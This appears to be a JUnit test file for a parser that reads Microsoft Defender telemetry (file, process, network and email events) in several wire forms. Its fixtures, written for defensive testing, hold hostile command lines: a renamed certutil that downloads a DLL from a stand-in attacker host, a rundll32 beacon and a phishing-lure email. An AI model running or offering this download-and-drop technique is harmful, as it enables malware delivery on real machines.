package dev.bazahunt.telemetry;

import static dev.bazahunt.telemetry.DefenderTelemetrySamples.*;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class DefenderRecordParserWireFormsTest {

    private static long nanos(String datetime) {
        return DefenderTimestamps.parseNanos(datetime);
    }

    private static void assertIsTheCertutilDrop(DeviceFileEvent drop) {
        assertThat(drop.timestamp).isEqualTo(nanos(DROP_TIMESTAMP));
        assertThat(drop.deviceId).isEqualTo(DEVICE_ID);
        assertThat(drop.deviceName).isEqualTo("fin-lt-0231.northwind.local");
        assertThat(drop.actionType).isEqualTo("FileCreated");
        assertThat(drop.folderPath).isEqualTo("C:\\Users\\Public\\qv7t\\mso4021.dll");
        assertThat(drop.sha1).isEqualTo("9c1e4a7b2d5f8e0a3c6b9d2e5f8a1c4b7e0d3f6a");
        assertThat(drop.fileSize).isEqualTo(284_672L);
        assertThat(drop.initiatingProcessVersionInfoOriginalFileName).isEqualTo("CertUtil.exe");
        assertThat(drop.initiatingProcessCommandLine).isEqualTo(
                "qv7t.exe  -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php C:\\Users\\Public\\qv7t\\mso4021.dll");
        assertThat(drop.initiatingProcessId).isEqualTo(9316L);
        assertThat(drop.initiatingProcessCreationTime).isEqualTo(nanos("2021-07-21T09:14:02.8807412Z"));
        assertThat(drop.initiatingProcessParentId).isEqualTo(8840L);
        assertThat(drop.initiatingProcessParentCreationTime).isEqualTo(nanos(CMD_TIMESTAMP));
        assertThat(drop.initiatingProcessUniqueId).isEqualTo(281_474_976_710_812L);
        assertThat(drop.reportId).isEqualTo(20_417L);
        assertThat(drop.machineGroup).isEqualTo("Finance laptops");
        assertThat(drop.additionalFields).isEqualTo("{\"FileType\":\"PortableExecutable\"}");
    }

    private static void assertIsTheExcelSpawnedCmd(DeviceProcessEvent cmd) {
        assertThat(cmd.timestamp).isEqualTo(nanos(CMD_TIMESTAMP));
        assertThat(cmd.deviceId).isEqualTo(DEVICE_ID);
        assertThat(cmd.fileName).isEqualTo("cmd.exe");
        assertThat(cmd.processId).isEqualTo(8840L);
        assertThat(cmd.processCreationTime).isEqualTo(nanos(CMD_TIMESTAMP));
        assertThat(cmd.processCommandLine)
                .isEqualTo("cmd.exe /c copy C:\\Windows\\System32\\certutil.exe C:\\Users\\Public\\qv7t\\qv7t.exe");
        assertThat(cmd.processTokenElevation).isEqualTo("TokenElevationTypeLimited");
        assertThat(cmd.accountSid).isEqualTo("S-1-5-21-1004336348-1177238915-682003330-1107");
        assertThat(cmd.logonId).isEqualTo(998_877L);
        assertThat(cmd.initiatingProcessFileName).isEqualTo("EXCEL.EXE");
        assertThat(cmd.initiatingProcessSignerType).isEqualTo("Microsoft");
        assertThat(cmd.reportId).isEqualTo(20_391L);
    }

    @Test
    void eventHubsMessageWithAFileEventYieldsTheFileEvent() {
        assertIsTheCertutilDrop(CollectingSink.parse(batch(envelope("DeviceFileEvents", FILE_ROW))).onlyFileEvent());
    }

    @Test
    void eventHubsMessageWithAProcessEventYieldsTheProcessEvent() {
        assertIsTheExcelSpawnedCmd(
                CollectingSink.parse(batch(envelope("DeviceProcessEvents", PROCESS_ROW))).onlyProcessEvent());
    }

    @Test
    void storageBlobLineOfEitherTableYieldsItsEvent() {
        assertIsTheCertutilDrop(CollectingSink.parse(envelope("DeviceFileEvents", FILE_ROW)).onlyFileEvent());
        assertIsTheExcelSpawnedCmd(CollectingSink.parse(envelope("DeviceProcessEvents", PROCESS_ROW)).onlyProcessEvent());
    }

    @Test
    void flatAdvancedHuntingRowTakesItsTableFromTheHint() {
        assertIsTheCertutilDrop(CollectingSink.parse(FILE_ROW, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent());
        assertIsTheExcelSpawnedCmd(CollectingSink.parse(PROCESS_ROW, DefenderTable.DEVICE_PROCESS_EVENTS).onlyProcessEvent());
    }

    @Test
    void flatSentinelRowTakesItsTableFromTypeEvenWhenTypeIsTheLastColumn() {
        String sentinelRow = without(PROCESS_ROW, "ReportId").replace("}", ",\"ReportId\":20391,\"Type\":\"DeviceProcessEvents\"}");
        assertIsTheExcelSpawnedCmd(CollectingSink.parse(sentinelRow, DefenderTable.DEVICE_FILE_EVENTS).onlyProcessEvent());
    }

    @Test
    void flatSentinelRowWithOnlyTimeGeneratedUsesItAsEventTime() {
        String sentinelRow = """
                {"TenantId":"b1a2c3d4-0000-4e5f-8a9b-000000000001","TimeGenerated":"2021-07-21T09:14:03.552Z",\
                "DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c","DeviceName":"fin-lt-0231.northwind.local",\
                "ActionType":"FileCreated","FileName":"mso4021.dll","InitiatingProcessFileName":"qv7t.exe",\
                "InitiatingProcessCommandLine":"qv7t.exe -urlcache -split -f http://k3vd9xq0wz.top/r8p2m.php",\
                "AdditionalFields":{"FileType":"PortableExecutable","Tags":["a","b"]},"SourceSystem":"",\
                "_BilledSize":1843,"_IsBillable":"True","Type":"DeviceFileEvents"}""";

        DeviceFileEvent drop = CollectingSink.parse(sentinelRow).onlyFileEvent();

        assertThat(drop.timestamp).isEqualTo(nanos("2021-07-21T09:14:03.552Z"));
        assertThat(drop.initiatingProcessFileName).isEqualTo("qv7t.exe");
        assertThat(drop.additionalFields).isEqualTo("{\"FileType\":\"PortableExecutable\",\"Tags\":[\"a\",\"b\"]}");
    }

    @Test
    void timestampWinsOverTimeGeneratedWhenARowHasBoth() {
        String row = withColumn(FILE_ROW, "TimeGenerated", "\"2021-07-21T09:20:00Z\"");
        assertThat(CollectingSink.parse(row, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent().timestamp)
                .isEqualTo(nanos(DROP_TIMESTAMP));
    }

    @Test
    void eventTimeIsTheRowTimestampNotTheLaterEnvelopeTime() {
        DeviceFileEvent drop = CollectingSink.parse(batch(envelope("DeviceFileEvents", FILE_ROW))).onlyFileEvent();

        assertThat(nanos(ENVELOPE_TIME)).isGreaterThan(nanos(DROP_TIMESTAMP));
        assertThat(drop.timestamp).isEqualTo(nanos(DROP_TIMESTAMP));
    }

    @Test
    void envelopeWithCategoryAfterPropertiesIsStillRoutedByCategory() {
        CollectingSink sink = CollectingSink.parse(batch(
                envelopeWithCategoryLast("DeviceProcessEvents", PROCESS_ROW),
                envelopeWithCategoryLast("DeviceFileEvents", FILE_ROW),
                envelopeWithCategoryLast("DeviceRegistryEvents", REGISTRY_ROW)));

        assertThat(sink.deadLetters).isEmpty();
        assertIsTheExcelSpawnedCmd(sink.processEvents.get(0));
        assertIsTheCertutilDrop(sink.fileEvents.get(0));
        assertThat(sink.skippedTables).containsExactly("DeviceRegistryEvents");
    }

    @Test
    void batchMixingTablesAndABadRecordEmitsEachRecordOnItsOwn() {
        String missingDeviceId = envelope("DeviceFileEvents", without(FILE_ROW, "DeviceId"));
        CollectingSink sink = CollectingSink.parse(batch(
                envelope("DeviceFileEvents", FILE_ROW),
                envelope("DeviceRegistryEvents", REGISTRY_ROW),
                missingDeviceId,
                envelope("DeviceProcessEvents", PROCESS_ROW)));

        assertIsTheCertutilDrop(sink.fileEvents.get(0));
        assertIsTheExcelSpawnedCmd(sink.processEvents.get(0));
        assertThat(sink.fileEvents).hasSize(1);
        assertThat(sink.processEvents).hasSize(1);
        assertThat(sink.skippedTables).containsExactly("DeviceRegistryEvents");
        DeadLetter bad = sink.deadLetters.get(0);
        assertThat(sink.deadLetters).hasSize(1);
        assertThat(bad.reason).isEqualTo("missing-device-id");
        assertThat(bad.recordIndex).isEqualTo(2);
        // That record and no other, sliced out of the message by byte offsets (then bounded).
        assertThat(bad.excerpt).isEqualTo(DeadLetter.bounded(missingDeviceId));
    }

    @Test
    void otherTablesAreSkippedInEveryForm() {
        assertThat(CollectingSink.parse(envelope("DeviceRegistryEvents", REGISTRY_ROW)).skippedTables)
                .containsExactly("DeviceRegistryEvents");
        String sentinelRow = withColumn(REGISTRY_ROW, "Type", "\"DeviceRegistryEvents\"");
        CollectingSink sink = CollectingSink.parse(sentinelRow, DefenderTable.DEVICE_FILE_EVENTS);
        assertThat(sink.skippedTables).containsExactly("DeviceRegistryEvents");
        assertThat(sink.total()).isEqualTo(1);
    }

    /** Every wire form the parser reads, for the two tables the pack added. */
    static java.util.stream.Stream<org.junit.jupiter.params.provider.Arguments> packTableForms() {
        java.util.List<org.junit.jupiter.params.provider.Arguments> forms = new java.util.ArrayList<>();
        for (String[] table : new String[][] {
                {"DeviceNetworkEvents", RUNDLL32_NETWORK_ROW}, {"EmailEvents", LURE_EMAIL_ROW}}) {
            String name = table[0];
            String row = table[1];
            forms.add(org.junit.jupiter.params.provider.Arguments.of(name + " Event Hubs batch",
                    batch(envelope(name, row), envelope("DeviceRegistryEvents", REGISTRY_ROW)), null));
            forms.add(org.junit.jupiter.params.provider.Arguments.of(name + " Storage line", envelope(name, row), null));
            forms.add(org.junit.jupiter.params.provider.Arguments.of(name + " category last",
                    envelopeWithCategoryLast(name, row), null));
            forms.add(org.junit.jupiter.params.provider.Arguments.of(name + " Sentinel row with Type",
                    withColumn(row, "Type", "\"" + name + "\""), null));
            forms.add(org.junit.jupiter.params.provider.Arguments.of(name + " export row with a table hint", row,
                    DefenderTable.fromNameOrCategory(name)));
        }
        return forms.stream();
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.MethodSource("packTableForms")
    void networkAndEmailRowsParseInEveryWireForm(String form, String unit, DefenderTable hint) {
        CollectingSink sink = CollectingSink.parse(unit, hint);
        assertThat(sink.deadLetters).as(form).isEmpty();
        if (form.startsWith("DeviceNetworkEvents")) {
            assertThat(sink.networkEvents).as(form).hasSize(1);
            DeviceNetworkEvent beacon = sink.networkEvents.get(0);
            assertThat(beacon.initiatingProcessFileName).isEqualTo("rundll32.exe");
            assertThat(beacon.initiatingProcessCommandLine).endsWith("tmp1834.dll,GlobalOut");
            assertThat(beacon.remoteIP).isEqualTo("198.51.100.23");
            assertThat(beacon.remotePort).isEqualTo(443L);
            assertThat(beacon.remoteUrl).isEmpty();
            assertThat(beacon.protocol).isEqualTo("Tcp");
            assertThat(beacon.initiatingProcessId).isEqualTo(8120L);
            assertThat(beacon.additionalFields).isEqualTo("{\"direction\":\"Out\"}");
            assertThat(beacon.table()).isEqualTo(DefenderTable.DEVICE_NETWORK_EVENTS);
            assertThat(beacon.timestamp).isEqualTo(nanos("2021-07-21T09:16:40.5000000Z"));
        } else {
            assertThat(sink.emailEvents).as(form).hasSize(1);
            EmailEvent lure = sink.emailEvents.get(0);
            assertThat(lure.networkMessageId).isEqualTo("9b6a2f0e-4c1d-4a8e-9f3b-1c2d3e4f5a6b");
            assertThat(lure.subject).isEqualTo("Your free trial KMR004215896311 is about to end");
            assertThat(lure.recipientEmailAddress).isEqualTo("j.doe@contoso.com");
            assertThat(lure.senderFromAddress).isEqualTo("billing@renewals-center.example");
            assertThat(lure.attachmentCount).isZero();
            assertThat(lure.reportId).isEqualTo("9b6a2f0e-4c1d-4a8e-9f3b-1c2d3e4f5a6b-1");
            assertThat(lure.table()).isEqualTo(DefenderTable.EMAIL_EVENTS);
            assertThat(lure.timestamp).isEqualTo(nanos("2021-07-21T08:02:11.0000000Z"));
        }
    }

    @Test
    void emailRowWithoutNetworkMessageIdIsDeadLettered() {
        DeadLetter bad = CollectingSink.parse(envelope("EmailEvents", without(LURE_EMAIL_ROW, "NetworkMessageId")))
                .onlyDeadLetter();
        assertThat(bad.reason).isEqualTo("missing-network-message-id");
    }

    @Test
    void emailColumnsDoNotLeakIntoDeviceRowsNorTheOtherWayRound() {
        // Subject is an EmailEvents column; on a file row it is an unknown column and is skipped.
        DeviceFileEvent drop = CollectingSink.parse(envelope("DeviceFileEvents",
                withColumn(FILE_ROW, "Subject", "\"x\""))).onlyFileEvent();
        assertThat(drop.deviceId).isNotBlank();
        // DeviceId is a device column; an email row carrying one still needs its NetworkMessageId.
        EmailEvent lure = CollectingSink.parse(envelope("EmailEvents",
                withColumn(LURE_EMAIL_ROW, "DeviceId", "\"abc\""))).onlyEmailEvent();
        assertThat(lure.networkMessageId).isNotBlank();
    }

    @Test
    void blobLineEndingInCrLfParses() {
        assertIsTheCertutilDrop(CollectingSink.parse(envelope("DeviceFileEvents", FILE_ROW) + "\r\n").onlyFileEvent());
    }

    @Test
    void lineStartingWithAUtf8ByteOrderMarkParses() {
        assertIsTheCertutilDrop(CollectingSink.parse("\uFEFF" + envelope("DeviceFileEvents", FILE_ROW) + "\n").onlyFileEvent());
    }

    @Test
    void blankOrWhitespaceOnlyUnitsEmitNothing() {
        assertThat(CollectingSink.parse("").total()).isZero();
        assertThat(CollectingSink.parse(" \t\r\n").total()).isZero();
        assertThat(CollectingSink.parse("\uFEFF\r\n").total()).isZero();
    }

    @Test
    void parsesOnlyTheGivenSliceOfALargerBuffer() {
        byte[] line = envelope("DeviceFileEvents", FILE_ROW).getBytes(StandardCharsets.UTF_8);
        byte[] buffer = new byte[line.length + 20];
        java.util.Arrays.fill(buffer, (byte) '#');
        System.arraycopy(line, 0, buffer, 7, line.length);
        CollectingSink sink = new CollectingSink();

        new DefenderRecordParser().parse(buffer, 7, line.length, null, sink);

        assertIsTheCertutilDrop(sink.onlyFileEvent());
    }

    @Test
    void oneParserInstanceHandlesUnitAfterUnit() {
        DefenderRecordParser parser = new DefenderRecordParser();
        CollectingSink sink = new CollectingSink();
        parser.parse("{\"records\":[1]}".getBytes(StandardCharsets.UTF_8), sink);
        parser.parse(envelope("DeviceProcessEvents", PROCESS_ROW).getBytes(StandardCharsets.UTF_8), sink);
        parser.parse("{not json".getBytes(StandardCharsets.UTF_8), sink);
        parser.parse(envelope("DeviceFileEvents", FILE_ROW).getBytes(StandardCharsets.UTF_8), sink);

        assertThat(sink.deadLetters).extracting(letter -> letter.reason)
                .containsExactly("unrecognised-form", "malformed-json");
        assertIsTheExcelSpawnedCmd(sink.processEvents.get(0));
        assertIsTheCertutilDrop(sink.fileEvents.get(0));
    }

    @Test
    void envelopeWithoutCategoryFallsBackToTheTableHint() {
        String noCategory = "{\"time\":\"" + ENVELOPE_TIME + "\",\"properties\":" + FILE_ROW + "}";
        assertIsTheCertutilDrop(CollectingSink.parse(noCategory, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent());
    }

    @Test
    void fractionsOfSevenThreeAndZeroDigitsAndOffsetsAreExact() {
        String[][] cases = {
            {"2021-07-21T09:14:03.5520871Z", "2021-07-21T09:14:03.5520871Z"},
            {"2021-07-21T09:14:03.552Z", "2021-07-21T09:14:03.5520000Z"},
            {"2021-07-21T09:14:03Z", "2021-07-21T09:14:03.0000000Z"},
            {"2021-07-21T11:14:03.5520871+02:00", "2021-07-21T09:14:03.5520871Z"},
        };
        for (String[] datetimeAndUtc : cases) {
            String row = withColumn(FILE_ROW, "Timestamp", "\"" + datetimeAndUtc[0] + "\"");
            DeviceFileEvent drop = CollectingSink.parse(row, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();
            assertThat(DefenderTimestamps.format(drop.timestamp)).as(datetimeAndUtc[0]).isEqualTo(datetimeAndUtc[1]);
        }
    }

    @Test
    void integerColumnsAcceptNumbersWrittenAsStrings() {
        String row = withColumn(withColumn(withColumn(withColumn(PROCESS_ROW,
                "ProcessId", "\"8840\""), "ReportId", "\"20391\""), "LogonId", "\" 998877 \""), "FileSize", "1024.0");

        DeviceProcessEvent cmd = CollectingSink.parse(row, DefenderTable.DEVICE_PROCESS_EVENTS).onlyProcessEvent();

        assertThat(cmd.processId).isEqualTo(8840L);
        assertThat(cmd.reportId).isEqualTo(20_391L);
        assertThat(cmd.logonId).isEqualTo(998_877L);
        assertThat(cmd.fileSize).isEqualTo(1024L);
    }

    @Test
    void nullAndAbsentColumnsStayNull() {
        String row = withColumn(withColumn(withColumn(withColumn(FILE_ROW,
                "InitiatingProcessId", "null"), "InitiatingProcessCreationTime", "null"),
                "AdditionalFields", "null"), "FileSize", "\"\"");

        DeviceFileEvent drop = CollectingSink.parse(row, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();

        assertThat(drop.sha256).isNull();
        assertThat(drop.fileOriginUrl).isNull();
        assertThat(drop.initiatingProcessId).isNull();
        assertThat(drop.initiatingProcessCreationTime).isNull();
        assertThat(drop.additionalFields).isNull();
        assertThat(drop.fileSize).isNull();
        assertThat(drop.shareName).isNull();
    }

    @Test
    void numbersAndBooleansInStringColumnsAreKeptAsTheirText() {
        String row = withColumn(withColumn(FILE_ROW, "FileName", "1834"), "ActionType", "true");
        DeviceFileEvent drop = CollectingSink.parse(row, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent();
        assertThat(drop.fileName).isEqualTo("1834");
        assertThat(drop.actionType).isEqualTo("true");
    }

    @Test
    void columnsOfTheOtherTableAreIgnoredNotMisassigned() {
        String fileRowWithProcessColumn = withColumn(FILE_ROW, "ProcessCommandLine", "{\"not\":\"checked\"}");
        assertIsTheCertutilDrop(
                CollectingSink.parse(fileRowWithProcessColumn, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent());
    }

    @Test
    void columnNamesAreCaseSensitiveAsDefenderSpellsThem() {
        String row = withColumn(FILE_ROW, "Sha1", "\"0000000000000000000000000000000000000000\"");
        assertThat(CollectingSink.parse(row, DefenderTable.DEVICE_FILE_EVENTS).onlyFileEvent().sha1)
                .isEqualTo("9c1e4a7b2d5f8e0a3c6b9d2e5f8a1c4b7e0d3f6a");
    }
}
